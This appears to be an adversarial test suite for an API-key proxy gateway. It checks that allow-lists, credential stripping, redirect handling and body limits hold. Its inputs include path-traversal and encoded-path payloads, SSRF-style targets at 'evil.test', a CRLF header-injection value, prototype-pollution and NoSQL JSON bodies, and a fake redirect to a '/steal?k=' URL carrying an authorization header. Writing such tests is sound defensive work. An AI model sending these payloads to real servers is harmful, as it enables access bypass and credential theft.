/**
 * The proxy under attack: path and target tricks never reach a path off the
 * allow-list (the fake upstream's log is the proof), caller credentials and
 * identity headers never reach upstream, redirects are handed back and never
 * followed, and body limits hold before and after a response has started.
 */
import test from 'ava';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { ProviderRegistry } from '../../src/catalog/registry.js';
import { matchRoute } from '../../src/catalog/path.js';
import { mintToken } from '../support/app.js';
import { startFakeProvider } from '../support/fake-provider.js';
import { adversary, call, isError, rawRequest, request, type Adversary } from './_harness.js';
import { eventually, quiet } from '../support/wait.js';
import { sleep } from '../support/wait.js';

const CHAT = '{"model":"m","messages":[]}';

/** Every request the fake upstream received is a method + path on the provider's allow-list. */
async function assertOnlyAllowListed(t: import('ava').ExecutionContext, a: Adversary): Promise<void> {
  const registry = await ProviderRegistry.load(a.app.config.builtinProvidersDir, a.app.config.upstreamOverrides);
  for (const r of a.fake.received) {
    const path = r.url.split('?')[0]!.slice(1);
    const ok = ['openai', 'anthropic', 'gemini'].some((id) => matchRoute(registry.get(id)!.routes, r.method, path));
    t.true(ok, `upstream received ${r.method} ${r.url}, which is on no allow-list`);
    t.false(/evil|%2e|\.\.|\/\/|\\/i.test(path), `upstream received ${r.url}`);
  }
}

test('path tricks → 403 path_not_allowed (or 400 where the HTTP parser refuses first); upstream sees only allow-listed paths', async (t) => {
  const a = await adversary(t);
  const tok = a.tokens.openai.token;
  const tricks = [
    '../v1/models', 'v1/../../v1/models', 'v1/models/..', 'v1/models/../../../admin', './v1/models', 'v1/./models', 'v1/models/.',
    '%2e%2e/v1/models', '%2E%2e/v1/models', '.%2e/v1/models', '%2e./v1/models', 'v1/%2e%2e/%2e%2e/admin', '%252e%252e/v1/models',
    '%25%32%65%25%32%65/v1/models', '..%2fv1/models', '..%2Fadmin', 'v1%2fmodels', 'v1/models%2f..%2f..%2fadmin', '..%5cv1/models',
    '..\\v1/models', 'v1\\models', '..;/v1/models', 'v1/models;/../../admin', 'v1/models;x=1', ';/v1/models', '%c0%ae%c0%ae/v1/models',
    '%ef%bc%8e%ef%bc%8e/v1/models', '%e2%80%a8v1/models', '/evil.test/v1/models', '//evil.test/v1/models', '/\\evil.test/v1/models',
    '\\\\evil.test/v1/models', 'http://evil.test/v1/models', 'https://evil.test/v1/models', 'HTTP://evil.test/v1/models',
    'http:%2f%2fevil.test/v1/models', 'http:/evil.test/v1/models', '@evil.test/v1/models', 'v1/models@evil.test', '%40evil.test/v1/models',
    'evil.test:443/v1/models', ':@evil.test/v1/models', 'user:pass@evil.test/v1/models', 'v1/models%3f/../../admin', 'v1/models%23/../admin',
    'v1/models#/../../admin', 'v1/models%00', 'v1/models%0d%0aHost:%20evil.test', 'v1/models%20HTTP/1.1', 'v1/mod%C3%A9ls',
    'v1/models/', 'v1//models', '', 'x'.repeat(3000), 'v1/models/' + '../'.repeat(200) + 'admin',
  ];
  for (const trick of tricks) {
    const r = await rawRequest(a.app.port, `GET /v1/proxy/${trick} HTTP/1.1\r\nHost: x\r\nX-Proxy-Token: ${tok}\r\nConnection: close\r\n\r\n`, { w: a.w });
    const label = JSON.stringify(trick.slice(0, 60));
    t.true(r.status === 403 || r.status === 400, `${label}: ${r.status} ${JSON.stringify(r.body)}`);
    t.is(r.body?.error?.code, r.status === 403 ? 'path_not_allowed' : 'bad_request', label);
  }
  // Raw bytes fetch would never send: UTF-8, tabs and spaces in the target.
  for (const target of [Buffer.from('/v1/proxy/v1/modéls', 'utf8'), Buffer.from('/v1/proxy/v1/\u2025/admin', 'utf8'), '/v1/proxy/v1/\tmodels', '/v1/proxy/v1/ models']) {
    const r = await rawRequest(a.app.port, Buffer.concat([Buffer.from('GET '), Buffer.from(target), Buffer.from(` HTTP/1.1\r\nHost: x\r\nX-Proxy-Token: ${tok}\r\nConnection: close\r\n\r\n`)]), { w: a.w });
    t.true(r.status === 403 || r.status === 400, `${JSON.stringify(target.toString())}: ${r.status}`);
  }
  // Query games are query, not path: the path is still the allow-listed one, sent as matched.
  for (const q of ['?../../admin', '?x=/../../admin&y=//evil.test', '?@evil.test', '?', '?a=%2e%2e%2f']) {
    const r = await rawRequest(a.app.port, `GET /v1/proxy/v1/models${q} HTTP/1.1\r\nHost: x\r\nX-Proxy-Token: ${tok}\r\nConnection: close\r\n\r\n`, { w: a.w });
    t.is(r.status, 200, q);
    t.is(a.fake.received.at(-1)!.url.split('?')[0], '/v1/models', q);
  }
  t.is(a.fake.received.length, 5, 'only the five query games were forwarded');
  await assertOnlyAllowListed(t, a);
  a.assertNoLeaks(t);
});

test('absolute-form and authority-form targets, CONNECT, OPTIONS *, upgrades and odd methods never reach upstream off the allow-list', async (t) => {
  const a = await adversary(t);
  const tok = a.tokens.openai.token;
  const head = (line: string, extra = '') => `${line}\r\nHost: evil.test\r\nX-Proxy-Token: ${tok}\r\n${extra}Content-Type: application/json\r\nContent-Length: ${CHAT.length}\r\nConnection: close\r\n\r\n${CHAT}`;
  const absolute = [
    'POST http://evil.test/v1/proxy/v1/chat/completions HTTP/1.1', `POST http://127.0.0.1:${a.fake.port}/v1/chat/completions HTTP/1.1`,
    `POST http://127.0.0.1:${a.app.port}/v1/proxy/v1/chat/completions HTTP/1.1`, 'POST https://evil.test/v1/proxy/v1/chat/completions HTTP/1.1',
    'POST //evil.test/v1/proxy/v1/chat/completions HTTP/1.1', 'POST evil.test:443 HTTP/1.1', 'POST * HTTP/1.1',
    'GET http://evil.test HTTP/1.1', `GET http://user:${tok}@evil.test/v1/proxy/v1/models HTTP/1.1`,
  ];
  for (const line of absolute) {
    const r = await rawRequest(a.app.port, head(line), { w: a.w });
    t.true([400, 403, 404].includes(r.status), `${line}: ${r.status}`);
    t.true(['bad_request', 'path_not_allowed', 'not_found'].includes(r.body?.error?.code), line);
  }
  // CONNECT: never a tunnel.
  const connect = await rawRequest(a.app.port, `CONNECT 127.0.0.1:${a.fake.port} HTTP/1.1\r\nHost: 127.0.0.1:${a.fake.port}\r\nX-Proxy-Token: ${tok}\r\n\r\nGET /v1/models HTTP/1.1\r\nHost: x\r\n\r\n`, { w: a.w, waitMs: 1500 });
  t.false(/^HTTP\/1\.1 200/.test(connect.raw), `CONNECT answered ${connect.raw.slice(0, 40)}`);
  // OPTIONS * and methods off the list (upper case; lower-case methods are malformed).
  for (const line of ['OPTIONS * HTTP/1.1', 'OPTIONS /v1/proxy/v1/models HTTP/1.1', 'TRACE /v1/proxy/v1/models HTTP/1.1', 'HEAD /v1/proxy/v1/chat/completions HTTP/1.1',
    'PROPFIND /v1/proxy/v1/models HTTP/1.1', 'PUT /v1/proxy/v1/chat/completions HTTP/1.1', 'PATCH /v1/proxy/v1/models HTTP/1.1', 'get /v1/proxy/v1/models HTTP/1.1',
    'M-SEARCH /v1/proxy/v1/models HTTP/1.1', 'DELETE /v1/proxy/v1/models HTTP/1.1']) {
    const r = await rawRequest(a.app.port, head(line), { w: a.w });
    t.true([400, 403, 404].includes(r.status), `${line}: ${r.status}`);
  }
  // A websocket/h2c upgrade on an allowed path: never a 101 and never an upgrade upstream.
  for (const upgrade of ['websocket', 'h2c']) {
    const r = await rawRequest(a.app.port, `GET /v1/proxy/v1/models HTTP/1.1\r\nHost: x\r\nX-Proxy-Token: ${tok}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: ${upgrade}\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n`, { w: a.w, waitMs: 1500 });
    t.not(r.status, 101, upgrade);
  }
  for (const r of a.fake.received) {
    t.is(r.headers.upgrade, undefined);
    t.is(r.headers['http2-settings'], undefined);
    t.not(r.headers.host, 'evil.test');
  }
  // A method override header cannot turn an allowed POST into something the allow-list refuses.
  const overridden = await call(a.w, a.proxyUrl('v1/chat/completions'), {
    method: 'POST', headers: { 'x-proxy-token': tok, 'x-http-method-override': 'DELETE', 'x-http-method': 'DELETE', 'x-method-override': 'DELETE' }, body: CHAT,
  });
  t.is(overridden.status, 200);
  const got = a.fake.received.at(-1)!;
  t.is(got.method, 'POST');
  for (const h of ['x-http-method-override', 'x-http-method', 'x-method-override']) t.is(got.headers[h], undefined, `${h} reached upstream`);
  await assertOnlyAllowListed(t, a);
  a.assertNoLeaks(t);
});

test('caller credentials, Host, cookies, X-Forwarded-*, Proxy-Authorization, ?key= and Connection-named headers never reach upstream', async (t) => {
  const a = await adversary(t);
  const mine = ['CALLER-AUTHZ-1', 'CALLER-XAPIKEY-2', 'CALLER-GOOG-3', 'CALLER-COOKIE-4', 'CALLER-PROXYAUTH-5', 'CALLER-QUERYKEY-6', 'CALLER-ACCESS-TOKEN-7', 'CALLER-APIKEY-8', 'caller-evil.test', '6.6.6.6'];
  const cases = [
    { provider: 'openai' as const, path: 'v1/chat/completions', header: 'authorization', value: (k: string) => `Bearer ${k}` },
    { provider: 'anthropic' as const, path: 'v1/messages', header: 'x-api-key', value: (k: string) => k },
    { provider: 'gemini' as const, path: 'v1beta/models/g:generateContent', header: 'x-goog-api-key', value: (k: string) => k },
  ];
  const credentialHeaders = ['authorization', 'x-api-key', 'x-goog-api-key', 'api-key', 'proxy-authorization', 'cookie', 'x-proxy-token'];
  for (const c of cases) {
    for (const tokenPlace of ['x-proxy-token', 'provider'] as const) {
      const tok = a.tokens[c.provider].token;
      const headerLines = [
        tokenPlace === 'x-proxy-token' ? `X-Proxy-Token: ${tok}` : c.provider === 'gemini' ? '' : `${c.header === 'authorization' ? 'Authorization: Bearer ' : 'X-Api-Key: '}${tok}`,
        c.header !== 'authorization' ? 'Authorization: Bearer CALLER-AUTHZ-1' : '',
        c.header !== 'x-api-key' ? 'x-api-key: CALLER-XAPIKEY-2' : '',
        'X-Goog-Api-Key: CALLER-GOOG-3',
        'Cookie: session=CALLER-COOKIE-4', 'Cookie2: $Version=1; s=CALLER-COOKIE-4',
        'Proxy-Authorization: Basic CALLER-PROXYAUTH-5',
        'Api-Key: CALLER-APIKEY-8',
        'Host: caller-evil.test', 'X-Forwarded-For: 6.6.6.6', 'X-Forwarded-Host: caller-evil.test', 'X-Forwarded-Proto: http', 'X-Forwarded-Port: 6',
        'Forwarded: for=6.6.6.6;host=caller-evil.test', 'X-Real-IP: 6.6.6.6', 'True-Client-IP: 6.6.6.6', 'Via: 1.1 caller-evil.test',
        'Connection: close, x-api-key, X-Goog-Api-Key, x-secret-hop', 'x-secret-hop: CALLER-HOP-9',
        'Content-Type: application/json', `Content-Length: ${CHAT.length}`,
      ].filter(Boolean);
      const query = c.provider === 'gemini' && tokenPlace === 'provider' ? `?key=${tok}&alt=json&access_token=CALLER-ACCESS-TOKEN-7` : '?key=CALLER-QUERYKEY-6&alt=json&%6Bey=CALLER-QUERYKEY-6';
      const before = a.fake.received.length;
      const r = await rawRequest(a.app.port, `POST /v1/proxy/${c.path}${query} HTTP/1.1\r\n${headerLines.join('\r\n')}\r\n\r\n${CHAT}`, { w: a.w, until: (s) => s.includes('\r\n\r\n') && /"object"|"candidates"|"type"/.test(s) });
      t.is(r.status, 200, `${c.provider} via ${tokenPlace}: ${r.raw.slice(0, 200)}`);
      t.is(a.fake.received.length, before + 1);
      const got = a.fake.received.at(-1)!;
      const label = `${c.provider} via ${tokenPlace}`;
      t.deepEqual(credentialHeaders.filter((h) => got.headers[h] !== undefined), [c.header], `${label}: exactly one credential header`);
      t.is(got.headers[c.header], c.value(a.keys[c.provider]), label);
      t.is(got.headers.host, `127.0.0.1:${a.fake.port}`, `${label}: the provider's own Host`);
      const everything = JSON.stringify(got.rawHeaders) + got.url + got.body;
      for (const s of [...mine, 'CALLER-HOP-9', 'ptok_', 'otok_']) t.false(everything.includes(s), `${label}: ${s} reached upstream`);
      for (const h of Object.keys(got.headers)) t.false(/^(x-forwarded-|forwarded$|via$|x-real-ip$|true-client-ip$|cookie2?$|proxy-|x-secret-hop$)/.test(h), `${label}: ${h}`);
      t.regex(got.url, /\?alt=json$/, label);
    }
  }
  a.assertNoLeaks(t);
});

test('upstream redirects (301, 302, 303, 307, 308) to another host are passed back, never followed; the other host sees nothing', async (t) => {
  const a = await adversary(t);
  const evil = await startFakeProvider();
  t.teardown(() => evil.close());
  for (const status of [301, 302, 303, 307, 308]) {
    a.fake.handler = (req, res) => {
      res.writeHead(status, { location: `${evil.url}/steal?k=${encodeURIComponent(String(req.headers.authorization))}`, 'content-type': 'text/plain', 'content-length': '5' });
      res.end('moved');
    };
    for (const init of [{ method: 'POST', body: CHAT }, { method: 'POST', body: CHAT, redirect: 'follow' as const }]) {
      const r = await call(a.w, a.proxyUrl('v1/chat/completions'), { ...init, headers: { 'x-proxy-token': a.tokens.openai.token }, redirect: init.redirect ?? 'manual' });
      if (init.redirect === 'follow') {
        // The caller's own client followed the Location: the gateway gave it no key to follow with.
        t.false(JSON.stringify(evil.received.at(-1)).includes(a.keys.openai), `${status}: the caller's follow carried no key`);
        continue;
      }
      t.is(r.status, status);
      t.is(r.text, 'moved');
      const location = r.headers.get('location')!;
      t.true(location.startsWith(`${evil.url}/steal?k=`), location);
      t.false(location.includes(a.keys.openai), 'the key in a Location header is masked');
    }
  }
  // The gateway itself never went to the other host: everything evil saw came from the caller's own fetch.
  for (const r of evil.received) t.false(JSON.stringify(r.rawHeaders).includes(a.keys.openai));
  t.is(evil.received.length, 5, 'only the five caller-side follows');
  a.fake.handler = undefined;
  a.assertNoLeaks(t);
});

test('a chunked body that outgrows KEYWARD_MAX_BODY after the response began: the caller connection is cut, the upstream aborted', async (t) => {
  let upstreamBytes = 0;
  let upstreamEnded = false;
  let upstreamStarted = false;
  let upstreamClosed = false;
  // An upstream that answers at once, then keeps reading the request body as it streams.
  const streaming = http.createServer((req, res) => {
    res.writeHead(200, { 'content-type': 'text/event-stream' });
    res.write('data: {"started":true}\n\n');
    req.on('data', (d: Buffer) => (upstreamBytes += d.length));
    upstreamStarted = true;
    req.on('close', () => (upstreamClosed = true));
    req.on('end', () => {
      upstreamEnded = true;
      res.end('data: [DONE]\n\n');
    });
  });
  await new Promise<void>((r) => streaming.listen(0, '127.0.0.1', r));
  t.teardown(() => new Promise<void>((r) => {
    streaming.closeAllConnections();
    streaming.close(() => r());
  }));
  const b = await adversary(t, { env: { KEYWARD_MAX_BODY: '4kb', KEYWARD_UPSTREAM_OPENAI: `http://127.0.0.1:${(streaming.address() as AddressInfo).port}` } });
  const outcome = await request(b.w, b.proxyUrl('v1/chat/completions'), { method: 'POST', headers: { 'x-proxy-token': b.tokens.openai.token, 'transfer-encoding': 'chunked' } }, (req) => {
    void (async () => {
      for (let i = 0; i < 40 && !req.destroyed; i++) {
        req.write('x'.repeat(512));
        await sleep(15); // pacing: a slow caller's body
      }
      if (!req.destroyed) req.end();
    })();
  });
  if (outcome.status === 200) t.truthy(outcome.error, 'a started response ends without a clean end');
  else t.true(outcome.status === 413 || outcome.status === 0, `status ${outcome.status}`);
  // Once the gateway has closed the request, its upstream leg is ended or cut; the upstream's request then closes
  // either way (a whole body, or cut), and has all it will ever get.
  await quiet(b.app);
  await eventually(() => !upstreamStarted || upstreamClosed, 'the upstream request closed');
  t.false(upstreamEnded, 'the upstream never saw a complete body');
  t.true(upstreamBytes <= 4096, `upstream got ${upstreamBytes} bytes`);
  // The gateway lives.
  t.is((await call(b.w, b.proxyUrl('v1/models'), { headers: { 'x-proxy-token': b.tokens.openai.token } })).status, 200);
  b.assertNoLeaks(t);
});

test('bad JSON on every admin endpoint that takes a body → 400 invalid_request, never a 500; oversized → 413', async (t) => {
  const a = await adversary(t, { env: { KEYWARD_MAX_ADMIN_BODY: '256kb' } });
  const endpoints = [
    ['/v1/credentials', `Bearer ${a.org.token}`], [`/v1/credentials/${a.credentials.openai}/rotate`, `Bearer ${a.org.token}`],
    ['/v1/tokens', `Bearer ${a.org.token}`], ['/v1/orgs/self/token/rotate', `Bearer ${a.org.token}`], ['/v1/orgs', 'Bearer test-admin-token-0123456789abcdef'],
  ];
  const bodies = [
    '{', '}', '{"a":', '{"a":1,}', "{'a':1}", '[1,2', 'nul', 'tru', '"unterminated', '{"a":"\\x"}', '{"a":"\\ud800"}x', '\u0000',
    '{"__proto__":{"admin":true}}', '{"constructor":{"prototype":{"x":1}}}', '[]', '"string"', '42', 'null', 'true',
    '['.repeat(10_000), '{"a":'.repeat(5000) + '1' + '}'.repeat(5000), '['.repeat(33) + ']'.repeat(33), '{"provider":' + '['.repeat(100_000),
    Buffer.from([0xff, 0xfe, 0x7b, 0x7d]).toString('latin1'), '\ufeff{}', '{"a":1}{"b":2}', '{"a":1e999999}', '{"a":' + '9'.repeat(10_000) + '}',
    '{"provider":"openai","api_key":"' + 'k'.repeat(200_000) + '"}', JSON.stringify({ provider: 'openai', api_key: { $gt: '' } }),
    JSON.stringify({ credential_id: ['x'], ttl: 15 }), JSON.stringify({ name: 'x'.repeat(10_000) }), JSON.stringify({ grace_s: -1 }), JSON.stringify({ grace_s: '1e3' }),
  ];
  for (const [path, authorization] of endpoints) {
    for (const body of bodies) {
      const r = await call(a.w, a.app.url + path!, { method: 'POST', headers: { authorization: authorization!, 'content-type': 'application/json' }, body });
      const label = `${path} ${JSON.stringify(body.slice(0, 30))}`;
      t.true(r.status === 400 || r.status === 404, `${label}: ${r.status} ${r.text.slice(0, 200)}`);
      t.is(r.body?.error?.type, r.status === 404 ? 'not_found' : 'invalid_request', label);
    }
    isError(t, await call(a.w, a.app.url + path!, { method: 'POST', headers: { authorization: authorization! }, body: 'x'.repeat(300_000) }), 413, 'payload_too_large', path);
  }
  // Nothing was created or changed by any of it.
  const list = await call(a.w, `${a.app.url}/v1/credentials`, { headers: { authorization: `Bearer ${a.org.token}` } });
  t.is(list.body.data.length, 3);
  t.is((await call(a.w, a.proxyUrl('v1/models'), { headers: { 'x-proxy-token': a.tokens.openai.token } })).status, 200, 'the org token was not rotated');
  a.assertNoLeaks(t);
});

test('a declared content-length over KEYWARD_MAX_BODY → 413 at once, before any body byte is read or any upstream byte is sent, whatever the token', async (t) => {
  const a = await adversary(t, { env: { KEYWARD_MAX_BODY: '8kb' } });
  const scoped = await mintToken(a.app, a.org, a.credentials.openai, '1h', { models: ['gpt-*'] });
  const cases: Array<[string, string]> = [
    [a.tokens.openai.token, 'v1/chat/completions'], [a.tokens.anthropic.token, 'v1/messages'],
    [a.tokens.gemini.token, 'v1beta/models/g:generateContent'], [scoped.token, 'v1/chat/completions'],
  ];
  for (const [tok, p] of cases) {
    for (const expect of ['', 'Expect: 100-continue\r\n']) {
      // Headers only: the 413 must come without waiting for the 9 MB the request announces. The body never comes, so a
      // gateway that waited for it would answer only at KEYWARD_BODY_TIMEOUT_MS (60 s, a 408): 20 s bounds the real
      // exchange generously (a busy machine is slow) and still tells the two apart.
      const started = Date.now();
      const r = await rawRequest(a.app.port, `POST /v1/proxy/${p} HTTP/1.1\r\nHost: x\r\nX-Proxy-Token: ${tok}\r\nContent-Type: application/json\r\n${expect}Content-Length: ${9 * 1024 * 1024}\r\n\r\n{"model":"gpt-x",`, { w: a.w, until: (s) => s.includes('payload_too_large'), waitMs: 20_000 });
      isError(t, r, 413, 'payload_too_large', `${p} ${expect.trim()}`);
      t.true(Date.now() - started < 20_000, `${p}: answered in ${Date.now() - started} ms`);
      t.false(/^HTTP\/1\.1 100/.test(r.raw), `${p}: the body was not invited with 100 Continue`);
    }
  }
  t.is(a.fake.received.length, 0, 'nothing reached the provider');
  const usage = await call(a.w, `${a.app.url}/v1/usage`, { headers: { authorization: `Bearer ${a.org.token}` } });
  t.is(usage.body.proxy_requests.used, 0, 'and nothing counted');
  // Within the limit, Expect: 100-continue is honoured as before: 100, then the body, then the answer.
  let continued = false;
  const ok = await request(a.w, a.proxyUrl('v1/chat/completions'), { method: 'POST', headers: { 'x-proxy-token': a.tokens.openai.token, expect: '100-continue', 'content-type': 'application/json' } }, (req) => {
    req.on('continue', () => {
      continued = true;
      req.end(CHAT);
    });
  });
  t.true(continued);
  t.is(ok.status, 200);
  t.is(a.fake.received.at(-1)!.body, CHAT);
  a.assertNoLeaks(t, { tokens: [scoped.token] });
});
